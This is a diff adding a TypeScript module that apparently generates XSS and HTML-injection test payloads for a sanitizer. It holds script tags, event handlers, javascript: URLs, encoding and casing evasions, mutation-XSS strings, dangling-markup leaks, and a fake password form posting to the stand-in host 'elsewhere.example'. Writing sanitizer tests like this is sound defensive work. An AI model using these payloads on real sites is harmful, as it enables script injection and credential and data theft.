@@ -1,0 +1,126 @@
+export const attackCode = 'globalThis.hacked=1'
+export const elsewhere = 'https://elsewhere.example'
+
+/** Elements that run or load something, in spellings that careless filters let through. */
+export function xssMarkup(): string[] {
+  const elements = [
+    `<script>${attackCode}</script>`,
+    `<script src="${elsewhere}/a.js"></script>`,
+    `<script type="module">import "${elsewhere}/b.js"</script>`,
+    `<svg><script>${attackCode}</script></svg>`,
+    `<svg><script href="${elsewhere}/c.js"/></svg>`,
+    `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
+    `<iframe srcdoc="&lt;script&gt;parent.hacked=1&lt;/script&gt;"></iframe>`,
+    `<iframe src="javascript:parent.hacked=1"></iframe>`,
+    `<object data="data:text/html,<script>parent.hacked=1</script>"></object>`,
+    `<embed src="${elsewhere}/d.swf">`,
+    `<base href="${elsewhere}/">`,
+    `<meta http-equiv="refresh" content="0;url=${elsewhere}/e">`,
+    `<meta http-equiv="refresh" content="0;url=javascript:${attackCode}">`,
+    `<link rel="stylesheet" href="${elsewhere}/f.css">`,
+    `<link rel="preload" as="image" href="${elsewhere}/g">`,
+    `<style>@import "${elsewhere}/h.css"</style>`,
+    `<style>*{background:url(${elsewhere}/i)}</style>`,
+    `<p style="background:url(${elsewhere}/j)">a</p>`,
+    `<div style="position:fixed;inset:0;z-index:9999999999">covered</div>`,
+    `<form action="${elsewhere}/k"><input name="password"><button>Log in</button></form>`,
+    `<form id="a"></form><button form="a" formaction="javascript:${attackCode}">b</button>`,
+    `<isindex action="javascript:${attackCode}" type="submit">`,
+    `<a href="javascript:${attackCode}">a</a>`,
+    `<a href="${elsewhere}" ping="${elsewhere}/l">a</a>`,
+    `<math><maction actiontype="statusline" xlink:href="javascript:${attackCode}">a</maction></math>`,
+    `<svg><a xlink:href="javascript:${attackCode}"><text>a</text></a></svg>`,
+    `<svg><animate attributeName="href" values="javascript:${attackCode}"/></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id='a' onload='${attackCode}'/>#a"/></svg>`,
+    `<svg><image href="${elsewhere}/m"/></svg>`,
+    `<video poster="${elsewhere}/n"></video>`,
+    `<table background="${elsewhere}/o"><tr><td>a</td></tr></table>`,
+    `<template shadowrootmode="open"><script>${attackCode}</script></template>`,
+    `<chatbot-widget server="${elsewhere}" open></chatbot-widget>`,
+    ...handlers(),
+    ...misparsed(),
+  ]
+  const runs = `<img src=x onerror="${attackCode}">`
+  return [
+    ...elements,
+    ...elements.map((element) => element.replaceAll(/<\/?[a-z]+/g, (tag) => tag.toUpperCase())),
+    runs.replace(/ /g, '/'),
+    runs.replace(/ /g, '\t'),
+    runs.replace(/ /g, '\n'),
+    runs.replace('onerror', 'oNeRrOr'),
+    runs.replace('onerror=', 'onerror\t=\n'),
+    runs.replaceAll('"', "'"),
+    runs.replaceAll('"', '`'),
+    runs.replaceAll('"', ''),
+    runs.slice(0, -1),
+    runs.replace('<', '<\u200b'),
+    runs.replace('<', '&lt;').replace('>', '&gt;'),
+    runs.replace('<', '&#60;').replace('>', '&#x3e;'),
+    runs.replace('<', '\\u003c').replace('>', '\\u003e'),
+    runs.replace('<', '%3C').replace('>', '%3E'),
+    runs.replace('<', '\uff1c').replace('>', '\uff1e'),
+    runs.replace('<', '<<'),
+    `&lt;script&gt;${attackCode}&lt;/script&gt;`,
+    `<scr<script>ipt>${attackCode}</scr</script>ipt>`,
+  ]
+}
+
+function handlers(): string[] {
+  const elements = [
+    'img src=x onerror',
+    'img srcset=x onerror',
+    'image src=x onerror',
+    'svg onload',
+    'svg/onload',
+    'body onload',
+    'body onpageshow',
+    'video src=x onerror',
+    'audio src=x onerror',
+    'video><source onerror',
+    'details open ontoggle',
+    'input autofocus onfocus',
+    'select autofocus onfocus',
+    'textarea autofocus onfocus',
+    'button autofocus onfocus',
+    'div tabindex=0 autofocus onfocus',
+    'marquee onstart',
+    'iframe onload',
+    'object data=x onerror',
+    'style onload',
+    'link rel=stylesheet href=x onerror',
+    'script src=x onerror',
+    'svg><animate attributeName=x dur=1s onbegin',
+    'svg><set attributeName=x onbegin',
+    'div style="animation:enter 1s" onanimationstart',
+    'p onmouseover',
+    'a href=x onclick',
+    'div onpointerenter',
+    'x onwheel',
+    'div contenteditable onbeforeinput',
+    'div popover onbeforetoggle',
+  ]
+  return elements.map((element) => `<${element}="${attackCode}">`)
+}
+
+/** Texts that become something else when they are parsed a second time. */
+function misparsed(): string[] {
+  const image = `<img src=x onerror=${attackCode}>`
+  return [
+    `<noscript><p title="</noscript>${image}">`,
+    `<svg></p><style><a id="</style>${image}">`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
+    `<form><math><mtext></form><form><mglyph><style></math>${image}`,
+    `<!--><${image.slice(1)}-->`,
+    `<![CDATA[><${image.slice(1)}]]>`,
+    `<textarea></textarea>${image}</textarea>`,
+    `<title></title>${image}</title>`,
+    `<xmp></xmp>${image}</xmp>`,
+    `<plaintext>${image}`,
+    `<?xml-stylesheet href="javascript:${attackCode}"?>`,
+    `<a href="${elsewhere}/?a=`,
+    `<img src='${elsewhere}/?a=`,
+    `<button form=x formaction='${elsewhere}/?a=`,
+    `<textarea name="a">`,
+    `<option>`,
+  ]
+}
